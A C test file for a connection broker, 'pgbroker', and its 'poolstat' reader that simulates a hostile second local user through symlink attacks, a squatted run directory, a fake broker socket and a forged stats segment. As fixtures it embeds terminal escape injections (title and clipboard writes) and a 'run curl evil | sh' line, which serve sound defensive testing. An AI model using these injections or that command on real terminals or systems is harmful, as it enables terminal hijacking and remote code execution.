/* Trust between the broker, its run directory, agents and readers, tried
 * as a hostile second local user (made with useradd for the test): a
 * squatted or writable run directory, symbolic links in it, a pid file
 * another user locks, a fake broker and a forged stats segment. */
#include <criterion/criterion.h>

#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "harness.h"
#include "stats.h"

static struct h_broker br;
static struct h_user other;
static char base[48];   /* short: br.dir is 64 bytes */

static void setup(void)
{
	memset(&br, 0, sizeof(br));
	memset(&other, 0, sizeof(other));
	/* Open to the second user as /tmp is (PGB_TEST_TMP may not be). */
	snprintf(base, sizeof(base), "/tmp/pgb-trust.XXXXXX");
	cr_assert_not_null(mkdtemp(base));
	cr_assert_eq(chmod(base, 01777), 0);
}

static pid_t forger;

static void teardown(void)
{
	if (forger > 0) {
		kill(forger, SIGKILL);
		waitpid(forger, NULL, 0);
	}
	if (br.pid > 0)
		h_broker_kill(&br);
	h_user_del(&other);
	if (base[0]) {
		const char *rm[] = { "/bin/rm", "-rf", base, NULL };
		char out[256];

		h_run(rm, out, sizeof(out));
	}
}

TestSuite(trust, .init = setup, .fini = teardown, .timeout = 120);

static void write_file(const char *path, const char *text, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);

	cr_assert_geq(fd, 0, "%s: %s", path, strerror(errno));
	cr_assert_eq(write(fd, text, strlen(text)), (ssize_t)strlen(text));
	cr_assert_eq(fchmod(fd, mode), 0);
	close(fd);
}

static const char *read_file(const char *path, char *buf, size_t n)
{
	int fd = open(path, O_RDONLY);
	ssize_t got = fd >= 0 ? read(fd, buf, n - 1) : -1;

	buf[got > 0 ? got : 0] = '\0';
	if (fd >= 0)
		close(fd);
	return buf;
}

static mode_t mode_of(const char *path)
{
	struct stat st;

	cr_assert_eq(lstat(path, &st), 0, "%s: %s", path, strerror(errno));
	return st.st_mode & 07777;
}

/* Run the broker on dir until it is refused or comes up (then it is
 * stopped): its exit status, its output in out. */
static int broker_try(const char *dir, char *out, size_t n)
{
	char bin[512], dsn[1024];
	const char *argv[] = { h_bin("broker/pgbroker", bin, sizeof(bin)), "--dir", dir,
			       "--dsn", dsn, "--min-pool-size", "0", "--shutdown-timeout-ms",
			       "100", NULL };

	snprintf(dsn, sizeof(dsn), "%s", h_dsn());
	return h_run(argv, out, n);
}

/* ---- as the second user ---------------------------------------------------- */

struct squat {
	const char *dir;
	const char *links[2][2];   /* { target, link name } */
};

static int squat_dir(void *arg)
{
	const struct squat *sq = arg;
	char path[256];

	h_become(&other);
	if (mkdir(sq->dir, 0777) < 0 || chmod(sq->dir, 0777) < 0)
		return 1;
	for (int i = 0; i < 2 && sq->links[i][0]; i++) {
		snprintf(path, sizeof(path), "%s/%s", sq->dir, sq->links[i][1]);
		if (symlink(sq->links[i][0], path) < 0)
			return 2;
	}
	return 0;
}

/* ---- the run directory ---------------------------------------------------- */

Test(trust, a_squatted_run_directory_is_refused_and_nothing_outside_is_touched)
{
	char secret[160], pidv[200], statv[200], dir[160], out[8192], buf[256], want[64];
	int st;

	h_user_add(&other);
	snprintf(secret, sizeof(secret), "%s/secret", base);
	cr_assert_eq(mkdir(secret, 0700), 0);
	snprintf(pidv, sizeof(pidv), "%s/victim-pid", secret);
	snprintf(statv, sizeof(statv), "%s/victim-stats", secret);
	write_file(pidv, "root-only first line\n", 0600);
	write_file(statv, "root-only stats\n", 0644);
	snprintf(dir, sizeof(dir), "%s/squat", base);
	struct squat sq = { .dir = dir, .links = { { pidv, "pgbroker.pid" },
						   { statv, "pgbroker.stats.tmp" } } };
	st = h_wait(h_fork(squat_dir, &sq), 10000);
	cr_assert_eq(st, 0, "the second user could not squat %s: %d", dir, st);

	st = broker_try(dir, out, sizeof(out));
	cr_expect_eq(st, 2, "exit %d:\n%s", st, out);
	snprintf(want, sizeof(want), "owned by uid %u", (unsigned)other.uid);
	cr_expect(strstr(out, want), "%s", out);
	cr_expect(strstr(out, "--dir"), "no way out named:\n%s", out);
	cr_expect(!strstr(out, "root-only"), "a target's content in the log:\n%s", out);
	cr_expect_str_eq(read_file(pidv, buf, sizeof(buf)), "root-only first line\n");
	cr_expect_str_eq(read_file(statv, buf, sizeof(buf)), "root-only stats\n");
	cr_expect_eq(mode_of(pidv), 0600);
	cr_expect_eq(mode_of(statv), 0644);
	snprintf(buf, sizeof(buf), "%s/pgbroker.sock", dir);
	cr_expect_neq(access(buf, F_OK), 0, "a socket in a squatted directory");
}

Test(trust, a_run_directory_others_may_write_is_refused)
{
	static const struct { mode_t mode; const char *says; } cases[] = {
		{ 0777, "writable by everybody" },
		{ 01777, "writable by everybody" },
		{ 0770, "writable by its group" },
	};
	char dir[160], out[8192];

	snprintf(dir, sizeof(dir), "%s/open", base);
	cr_assert_eq(mkdir(dir, 0700), 0);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		int st;

		cr_assert_eq(chmod(dir, cases[i].mode), 0);
		st = broker_try(dir, out, sizeof(out));
		cr_expect_eq(st, 2, "mode %o: exit %d:\n%s", cases[i].mode, st, out);
		cr_expect(strstr(out, cases[i].says) && strstr(out, "chmod go-w"), "mode %o:\n%s",
			  cases[i].mode, out);
	}
}

Test(trust, a_missing_run_directory_is_made_for_the_owner_alone)
{
	const char *allow[] = { "--allow-uids", "4242", NULL };
	char path[200];

	snprintf(br.log, sizeof(br.log), "%s/a.log", base);
	snprintf(br.dir, sizeof(br.dir), "%s/made", base);
	umask(0);	/* the broker's mode, not the umask's */
	h_broker_start(&br, NULL);
	cr_expect_eq(mode_of(br.dir), 0700);
	snprintf(path, sizeof(path), "%s/pgbroker.pid", br.dir);
	cr_expect_eq(mode_of(path), 0600);
	snprintf(path, sizeof(path), "%s/pgbroker.stats", br.dir);
	cr_expect_eq(mode_of(path), 0640);
	snprintf(path, sizeof(path), "%s/pgbroker.sock", br.dir);
	cr_expect(S_ISSOCK(({ struct stat s; lstat(path, &s); s.st_mode; })));
	cr_assert_eq(h_broker_stop(&br), 0);
	cr_expect_neq(access(br.dir, F_OK), 0, "the directory it made is left behind");

	/* Other uids may register: they may search it, not list or write it. */
	snprintf(br.log, sizeof(br.log), "%s/b.log", base);
	h_broker_start(&br, allow);
	cr_expect_eq(mode_of(br.dir), 0711);
	cr_assert_eq(h_broker_stop(&br), 0);
}

Test(trust, files_in_the_run_directory_are_never_written_through_symlinks)
{
	char victim[160], link[200], out[8192], buf[256];
	int st;

	snprintf(victim, sizeof(victim), "%s/victim", base);
	write_file(victim, "victim\n", 0600);
	snprintf(br.dir, sizeof(br.dir), "%s/own", base);
	snprintf(br.log, sizeof(br.log), "%s/broker.log", base);
	cr_assert_eq(mkdir(br.dir, 0700), 0);

	/* A temporary stats file: removed, never written through. */
	snprintf(link, sizeof(link), "%s/pgbroker.stats.tmp", br.dir);
	cr_assert_eq(symlink(victim, link), 0);
	h_broker_start(&br, NULL);
	cr_expect_str_eq(read_file(victim, buf, sizeof(buf)), "victim\n");
	cr_expect_eq(mode_of(victim), 0600);
	cr_assert_eq(h_broker_stop(&br), 0);

	/* The pid file: refused, naming it. */
	snprintf(link, sizeof(link), "%s/pgbroker.pid", br.dir);
	cr_assert_eq(symlink(victim, link), 0);
	st = broker_try(br.dir, out, sizeof(out));
	cr_expect_eq(st, 2, "exit %d:\n%s", st, out);
	cr_expect(strstr(out, "pgbroker.pid is a symbolic link"), "%s", out);
	cr_expect_str_eq(read_file(victim, buf, sizeof(buf)), "victim\n");
	cr_expect_eq(mode_of(victim), 0600);
}

static int file_has(void *arg)
{
	const char *const *a = arg;
	static char buf[1 << 16];

	return strstr(read_file(a[0], buf, sizeof(buf)), a[1]) != NULL;
}

Test(trust, the_unclean_shutdown_warning_never_shows_the_pid_file)
{
	char path[200], logbuf[1 << 16], text[64];
	const char *warned[] = { br.log, "held something else than a pid" };
	pid_t dead;

	snprintf(br.dir, sizeof(br.dir), "%s/own", base);
	snprintf(br.log, sizeof(br.log), "%s/broker.log", base);
	cr_assert_eq(mkdir(br.dir, 0700), 0);
	snprintf(path, sizeof(path), "%s/pgbroker.pid", br.dir);
	write_file(path, "\033]0;pwned\007 sekrit-pidfile-line\n", 0600);
	h_broker_start(&br, NULL);
	cr_assert(h_until(file_has, warned, 10000), "%s", read_file(br.log, logbuf, sizeof(logbuf)));
	read_file(br.log, logbuf, sizeof(logbuf));
	cr_expect(!strstr(logbuf, "sekrit"), "the file's content in the log:\n%s", logbuf);
	cr_expect(!strchr(logbuf, '\033'), "an escape sequence in the log");
	cr_assert_eq(h_broker_stop(&br), 0);

	/* A pid that is gone: named. */
	dead = fork();
	if (dead == 0)
		_exit(0);
	waitpid(dead, NULL, 0);
	snprintf(text, sizeof(text), "%d\n", (int)dead);
	write_file(path, text, 0644);
	h_broker_start(&br, NULL);
	snprintf(text, sizeof(text), "pgbroker (pid %d) did not shut down cleanly", (int)dead);
	const char *named[] = { br.log, text };
	cr_assert(h_until(file_has, named, 10000), "%s", read_file(br.log, logbuf, sizeof(logbuf)));
	cr_expect_eq(mode_of(path), 0600, "the pid file kept mode %o", mode_of(path));
	cr_assert_eq(h_broker_stop(&br), 0);
}

/* ---- the pid file and another user ---------------------------------------- */

struct locker {
	const char *path;
	int go[2], done[2];
};

/* As the second user: 0 when the pid file cannot even be opened; else lock
 * it, say so, and hold it until told. */
static int lock_as_other(void *arg)
{
	struct locker *l = arg;
	char x = 'l';
	int fd;

	h_become(&other);
	/* Never outlive the test: a dead parent ends the wait below. */
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	close(l->done[1]);
	fd = open(l->path, O_RDONLY);
	if (fd < 0)
		return errno == EACCES ? 0 : 1;
	if (flock(fd, LOCK_SH | LOCK_NB) < 0)
		return 2;
	if (write(l->go[1], &x, 1) != 1)
		return 3;
	(void)!read(l->done[0], &x, 1);
	return 10;
}

Test(trust, another_user_cannot_block_a_restart_through_the_pid_file)
{
	const char *allow[] = { "--allow-uids", "4242", NULL };
	struct locker l;
	char path[200], x;
	pid_t p;
	pgb_conn *c;

	h_user_add(&other);
	h_broker_start(&br, allow);
	/* As for agents of other uids: they may reach names in it. */
	cr_assert_eq(chmod(br.dir, 0711), 0);
	h_broker_kill(&br);
	snprintf(path, sizeof(path), "%s/pgbroker.pid", br.dir);
	cr_expect_eq(mode_of(path), 0600, "a killed broker leaves its pid file mode %o",
		     mode_of(path));
	l.path = path;
	cr_assert_eq(pipe(l.go), 0);
	cr_assert_eq(pipe(l.done), 0);
	cr_expect_eq(h_wait(h_fork(lock_as_other, &l), 10000), 0,
		     "another user could open the pid file");

	/* An older release left it readable by all, and the other user holds
	 * a lock on it: the next broker starts all the same. */
	cr_assert_eq(chmod(path, 0644), 0);
	p = h_fork(lock_as_other, &l);
	cr_assert_eq(read(l.go[0], &x, 1), 1, "the other user could not lock the pid file");
	h_broker_start(&br, allow);
	c = h_connect(&br);
	cr_expect_eq(h_num(c, "select 3"), 3);
	pgb_finish(c);
	cr_expect_eq(mode_of(path), 0600);
	cr_assert_eq(h_broker_stop(&br), 0);
	cr_assert_eq(write(l.done[1], "x", 1), 1);
	cr_expect_eq(h_wait(p, 10000), 10);
}

/* ---- a fake broker and a forged stats segment -------------------------------- */

struct fake {
	char dir[64];
	int ready[2], counts[2];
};

/* As the second user: listen on DIR/pgbroker.sock in a directory of its
 * own, and report how many bytes each of two connections sent before it
 * hung up (-1: nobody came). */
static int fake_broker(void *arg)
{
	struct fake *f = arg;
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int ls;

	h_become(&other);
	if (mkdir(f->dir, 0700) < 0)
		return 1;
	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s/pgbroker.sock", f->dir);
	ls = socket(AF_UNIX, SOCK_STREAM, 0);
	if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 4) < 0)
		return 2;
	if (write(f->ready[1], "r", 1) != 1)
		return 3;
	for (int i = 0; i < 2; i++) {
		struct pollfd p = { .fd = ls, .events = POLLIN };
		char buf[4096];
		int n = -1, fd;
		ssize_t r;

		if (poll(&p, 1, 10000) == 1 && (fd = accept(ls, NULL, NULL)) >= 0) {
			struct timeval tv = { 2, 0 };

			setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
			n = 0;
			while ((r = read(fd, buf, sizeof(buf))) > 0)
				n += (int)r;
			close(fd);   /* no answer: a real one would forge a channel */
		}
		if (write(f->counts[1], &n, sizeof(n)) != sizeof(n))
			return 4;
	}
	return 0;
}

Test(trust, an_agent_sends_nothing_to_a_broker_of_another_user)
{
	struct fake f;
	char x, want[96];
	pgb_conn *c;
	pid_t p;
	int n;

	h_user_add(&other);
	snprintf(f.dir, sizeof(f.dir), "%s/fake", base);
	cr_assert_eq(pipe(f.ready), 0);
	cr_assert_eq(pipe(f.counts), 0);
	p = h_fork(fake_broker, &f);
	cr_assert_eq(read(f.ready[0], &x, 1), 1, "the fake broker did not come up");
	unsetenv("PGBROKER_REQUIRE_UID");

	c = pgb_connect(f.dir);
	cr_expect_eq(pgb_status(c), PGB_CONNECTION_BAD);
	snprintf(want, sizeof(want), "runs as uid %u, neither this process's uid %u",
		 (unsigned)other.uid, (unsigned)geteuid());
	cr_expect(strstr(pgb_error_message(c), want), "%s", pgb_error_message(c));
	pgb_finish(c);
	cr_assert_eq(read(f.counts[0], &n, sizeof(n)), (ssize_t)sizeof(n));
	cr_expect_eq(n, 0, "the agent sent %d bytes to a broker it did not trust", n);

	/* Named as the broker's user, it passes the check (and this fake
	 * then gets the hello, and answers nothing). */
	c = pgb_connect_peer(f.dir, other.name);
	cr_expect_eq(pgb_status(c), PGB_CONNECTION_BAD);
	cr_expect(!strstr(pgb_error_message(c), "runs as uid"), "%s", pgb_error_message(c));
	pgb_finish(c);
	cr_assert_eq(read(f.counts[0], &n, sizeof(n)), (ssize_t)sizeof(n));
	cr_expect_gt(n, 0, "the required uid was not accepted");
	cr_expect_eq(h_wait(p, 10000), 0);
}

/* A copy of a real broker's segment, made to look alive and unhealthy for
 * a reason that carries terminal escape sequences. */
static void forge_segment(const char *dir, char *path, size_t n)
{
	static char img[4 << 20];
	struct h_broker real = { 0 };
	struct stats_seg *seg = (struct stats_seg *)img;
	struct timespec ts;
	char src[200];
	int fd;
	ssize_t len;

	h_broker_start(&real, NULL);
	snprintf(src, sizeof(src), "%s/pgbroker.stats", real.dir);
	fd = open(src, O_RDONLY);
	cr_assert_geq(fd, 0);
	len = read(fd, img, sizeof(img));
	close(fd);
	cr_assert_gt(len, (ssize_t)sizeof(*seg));
	cr_assert_eq(h_broker_stop(&real), 0);

	clock_gettime(CLOCK_REALTIME, &ts);
	seg->d.updated_ms = (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
	seg->d.broker_pid = getpid();
	seg->heartbeat_ms = seg->d.updated_ms;
	seg->h.sample_ms = seg->d.updated_ms;
	seg->h.status = HEALTH_UNHEALTHY;
	seg->h.nreasons = 1;
	seg->h.reasons[0].code = HEALTH_R_BREAKER;
	seg->h.reasons[0].level = HEALTH_UNHEALTHY;
	snprintf(seg->h.reasons[0].text, STATS_TEXT, "forged\033]0;pwned-title\007 \033]52;c;cHduZWQ=\007");
	snprintf(seg->h.reasons[0].advice, STATS_TEXT, "\033[2J\033[31mrun curl evil | sh\x9b" "0m");
	cr_assert_eq(mkdir(dir, 0700), 0);
	snprintf(path, n, "%s/pgbroker.stats", dir);
	fd = open(path, O_WRONLY | O_CREAT | O_EXCL, 0640);
	cr_assert_geq(fd, 0);
	cr_assert_eq(write(fd, img, (size_t)len), len);
	close(fd);
	/* Alive: a forger keeps its heartbeat fresh as a broker would. */
	forger = fork();
	cr_assert_neq(forger, -1);
	if (forger == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		fd = open(path, O_RDWR);
		seg = fd < 0 ? MAP_FAILED : mmap(NULL, (size_t)len, PROT_READ | PROT_WRITE,
						 MAP_SHARED, fd, 0);
		if (seg == MAP_FAILED)
			_exit(1);
		for (;;) {
			clock_gettime(CLOCK_REALTIME, &ts);
			__atomic_store_n(&seg->heartbeat_ms,
					 (int64_t)ts.tv_sec * 1000 + ts.tv_nsec / 1000000,
					 __ATOMIC_RELEASE);
			usleep(100000);
		}
	}
}

static int poolstat_run(const char *mode, const char *dir, char *out, size_t n)
{
	char bin[512];
	const char *argv[] = { h_bin("tools/poolstat", bin, sizeof(bin)), mode, dir, NULL };

	return h_run(argv, out, n);
}

Test(trust, readers_print_no_control_character_and_trust_no_other_user)
{
	static const char *const modes[] = { "--once", "--json", "--prometheus" };
	char dir[160], path[200], out[65536], want[96];
	struct pgb_health h;
	int st;

	h_user_add(&other);
	snprintf(dir, sizeof(dir), "%s/forged", base);
	forge_segment(dir, path, sizeof(path));
	unsetenv("PGBROKER_REQUIRE_UID");

	for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
		st = poolstat_run(modes[i], dir, out, sizeof(out));
		cr_expect_eq(st, 2, "%s: exit %d:\n%s", modes[i], st, out);
		for (const char *p = out; *p; p++)
			cr_expect(!((unsigned char)*p < 0x20 && *p != '\n') && *p != 0x7f &&
				  (unsigned char)*p != 0x9b,
				  "%s printed control character 0x%02x at %zu", modes[i],
				  (unsigned char)*p, (size_t)(p - out));
	}
	st = poolstat_run("--once", dir, out, sizeof(out));
	cr_expect(strstr(out, "forged?]0;pwned-title?"), "%s", out);
	cr_assert_eq(pgb_pool_health(dir, &h), 0, "%s", h.error);
	for (const char *p = h.reasons; *p; p++)
		cr_expect((unsigned char)*p >= 0x20 || *p == '\n', "control character in reasons");
	for (const char *p = h.recommendations; *p; p++)
		cr_expect((unsigned char)*p >= 0x20 || *p == '\n', "control character in advice");

	/* The same segment, but another user's: no broker of ours. */
	cr_assert_eq(chown(dir, other.uid, other.gid), 0);
	cr_assert_eq(chown(path, other.uid, other.gid), 0);
	st = poolstat_run("--once", dir, out, sizeof(out));
	cr_expect_eq(st, 3, "exit %d:\n%s", st, out);
	snprintf(want, sizeof(want), "uid %u, neither this process's uid %u",
		 (unsigned)other.uid, (unsigned)geteuid());
	cr_expect(strstr(out, want), "%s", out);
	cr_expect(!strstr(out, "pwned"), "%s", out);
	cr_expect_eq(pgb_pool_health(dir, &h), -1);
	cr_expect_eq(h.status, PGB_NO_BROKER);
	cr_expect(strstr(h.error, want), "%s", h.error);
	/* Unless named as the broker's user. */
	setenv("PGBROKER_REQUIRE_UID", other.name, 1);
	cr_expect_eq(pgb_pool_health(dir, &h), 0, "%s", h.error);
	unsetenv("PGBROKER_REQUIRE_UID");
}
